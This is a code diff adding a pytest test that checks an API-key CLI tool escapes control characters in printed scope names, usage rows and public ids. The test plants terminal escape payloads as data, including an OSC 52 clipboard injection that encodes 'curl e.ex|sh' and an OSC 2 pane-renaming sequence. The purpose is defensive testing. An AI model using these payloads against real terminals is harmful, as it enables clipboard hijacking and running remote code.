@@ -7,16 +7,20 @@ import io
 import json
 import re
 import sys
+import unicodedata
 from contextlib import closing
 from datetime import timedelta
 from pathlib import Path
 
 import pytest
+from sqlalchemy import text
 
 from apikey_tui.cli import build_parser, main
 from apikey_tui.clock import system_clock
 from apikey_tui.command_help import subcommands
+from apikey_tui.db.models import MINUTE, USAGE_ALLOWED, USAGE_FORBIDDEN, usage_minute
 from apikey_tui.store import KeyStore
+from apikey_tui.store.credentials import credential_source
 from tests.conftest import ACTOR, CHEAP, FakeClock
 
 SGR = re.compile(r"\x1b\[[0-9;]*m")
@@ -270,3 +274,48 @@ def test_changes_say_what_they_did_in_one_wording(
     run(keys_url, "keys", "show", "ci")
     shown = capsys.readouterr().out
     assert "2099-01-31 00:00:00 UTC" in shown and not re.search(r"\d\dZ\b", shown)
+
+
+# OSC 52 puts 'curl e.ex|sh' into tmux's clipboard; OSC 2 renames the pane.
+HOSTILE_SCOPE = "\x1b]52;c;Y3VybCBlLmV4fHNo\x07x"
+HOSTILE_USE = "\x1b]2;pwned\x07"
+
+
+@pytest.mark.time_dependent
+def test_usage_and_rightsize_escape_every_text_they_print(
+    sqlite_url: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """`keys usage` and `keys rightsize` in a terminal print a hostile scope name (in the key,
+    in the usage rows and in a proposal) and public id escaped, never a raw control character."""
+    past = FakeClock(system_clock() - timedelta(days=40))
+    with closing(KeyStore.open(sqlite_url, hasher=CHEAP, actor=ACTOR, clock=past)) as store:
+        store.create_key("alice", "svc", ["project"])
+        public_id = "ak\x1b]2;id\x07"
+        with store.engine.begin() as conn:  # rows an older version or a hand edit could leave
+            conn.execute(
+                text("INSERT INTO apikey_tui_scope (name, description) VALUES (:n, '')"),
+                {"n": HOSTILE_SCOPE},
+            )
+            key_id = conn.execute(text("SELECT id FROM apikey_tui_key")).scalar_one()
+            conn.execute(
+                text("INSERT INTO apikey_tui_key_scope (key_id, scope) VALUES (:k, :s)"),
+                {"k": key_id, "s": HOSTILE_SCOPE},
+            )
+            conn.execute(text("UPDATE apikey_tui_key SET public_id = :p"), {"p": public_id})
+        now = usage_minute(system_clock())
+        source = credential_source(store.engine)
+        source.record_usage(
+            [
+                (public_id, now - 60, MINUTE, USAGE_ALLOWED, "project", 5),
+                (public_id, now - 60, MINUTE, USAGE_ALLOWED, HOSTILE_USE, 2),
+                (public_id, now - 60, MINUTE, USAGE_FORBIDDEN, HOSTILE_USE, 3),
+            ]
+        )
+        source.close()
+    out, _ = _terminal(monkeypatch)
+    assert run(sqlite_url, "keys", "usage", "svc") == 0
+    assert run(sqlite_url, "keys", "rightsize") == 0
+    printed = out.getvalue()
+    assert "drop \\x1b]52;c;" in printed and "\\x1b]2;pwned\\x07" in printed, printed
+    raw = [ch for ch in printed if ch != "\n" and unicodedata.category(ch).startswith("C")]
+    assert raw == [], printed
